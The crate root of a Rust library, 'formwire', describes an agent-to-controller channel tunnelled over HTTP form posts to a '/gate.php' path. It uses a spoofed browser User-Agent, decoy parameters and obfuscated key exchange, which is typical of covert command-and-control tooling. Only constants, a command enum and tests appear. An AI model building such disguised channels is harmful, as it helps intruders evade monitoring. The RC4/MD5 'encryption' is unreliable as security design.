//! # formwire
//!
//! An encrypted duplex session channel carried over ordinary, stateless
//! HTTP/1.1 form posts. The agent is the only side that ever initiates a
//! request; the controller answers. Every poll doubles as an upload and a
//! download opportunity, which is how a half-duplex, request-driven
//! transport emulates two independent byte streams.
//!
//! ## Architecture Overview
//!
//! ```text
//! ┌─────────────────────────────────────────────────────────┐
//! │        Embedding application (SessionHandler)           │
//! ├─────────────────────────────────────────────────────────┤
//! │  Controller: registry, poll dispatcher  │  Agent channel │
//! ├─────────────────────────────────────────────────────────┤
//! │  Handshake (P-384 ECDH, XOR-obfuscated key exchange)    │
//! ├─────────────────────────────────────────────────────────┤
//! │  Obfuscation (sentinel keys, decoy form parameters)     │
//! ├─────────────────────────────────────────────────────────┤
//! │  Wire (CBOR envelope, RC4, MD5 checksum, base64)        │
//! └─────────────────────────────────────────────────────────┘
//! ```
//!
//! ## Design Goals
//!
//! 1. **Plain transport**: HTTP only; the channel brings its own encryption
//! 2. **Fail closed**: any integrity failure tears the session down
//! 3. **Isolation**: a slow poll on one session never stalls another
//! 4. **No ambient state**: the controller is an explicit service object

#![deny(unsafe_code)]
#![warn(missing_docs, rust_2018_idioms)]

pub mod crypto;
pub mod error;
pub mod handshake;
pub mod obfuscation;
pub mod wire;

#[cfg(feature = "controller")]
pub mod controller;

#[cfg(feature = "agent")]
pub mod agent;

pub use error::{Error, Result};
pub use handshake::SessionId;

/// Agent is polling only to drain data queued for it.
pub const CHECK_STREAM_DATA: &str = "CHECK_STREAM_DATA";

/// Liveness check, echoed back encrypted.
pub const TEST_CONNECTION_DATA: &str = "TEST_CONNECTION_DATA";

/// Agent asks the controller to tear the session down.
pub const TERMINATE_CONNECTION_DATA: &str = "TERMINATE_CONNECTION_DATA";

/// `Content-Type` of every request and response.
pub const HTTP_CONTENT_TYPE: &str = "application/x-www-form-urlencoded";

/// Fixed `User-Agent` sent by the agent.
pub const HTTP_USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0";

/// Default gate path served by the controller.
pub const DEFAULT_PATH: &str = "/gate.php";

/// Default time a `CHECK_STREAM_DATA` poll waits for outbound data (milliseconds).
pub const RESPONSE_TIMEOUT_MS: u64 = 5_000;

/// Reserved control signals carried in place of application data.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Command {
    /// See [`CHECK_STREAM_DATA`]
    CheckStream,
    /// See [`TEST_CONNECTION_DATA`]
    TestConnection,
    /// See [`TERMINATE_CONNECTION_DATA`]
    Terminate,
}

impl Command {
    /// Recognise a reserved payload. Anything else is application data.
    pub fn parse(payload: &[u8]) -> Option<Self> {
        match payload {
            p if p == CHECK_STREAM_DATA.as_bytes() => Some(Command::CheckStream),
            p if p == TEST_CONNECTION_DATA.as_bytes() => Some(Command::TestConnection),
            p if p == TERMINATE_CONNECTION_DATA.as_bytes() => Some(Command::Terminate),
            _ => None,
        }
    }

    /// The literal payload for this command.
    pub fn as_bytes(&self) -> &'static [u8] {
        match self {
            Command::CheckStream => CHECK_STREAM_DATA.as_bytes(),
            Command::TestConnection => TEST_CONNECTION_DATA.as_bytes(),
            Command::Terminate => TERMINATE_CONNECTION_DATA.as_bytes(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_command_parse() {
        assert_eq!(Command::parse(b"CHECK_STREAM_DATA"), Some(Command::CheckStream));
        assert_eq!(
            Command::parse(b"TEST_CONNECTION_DATA"),
            Some(Command::TestConnection)
        );
        assert_eq!(
            Command::parse(b"TERMINATE_CONNECTION_DATA"),
            Some(Command::Terminate)
        );
        assert_eq!(Command::parse(b"PING"), None);
        assert_eq!(Command::parse(b"check_stream_data"), None);
        assert_eq!(Command::parse(b""), None);
    }

    #[test]
    fn test_command_bytes_round_trip() {
        for command in [Command::CheckStream, Command::TestConnection, Command::Terminate] {
            assert_eq!(Command::parse(command.as_bytes()), Some(command));
        }
    }
}
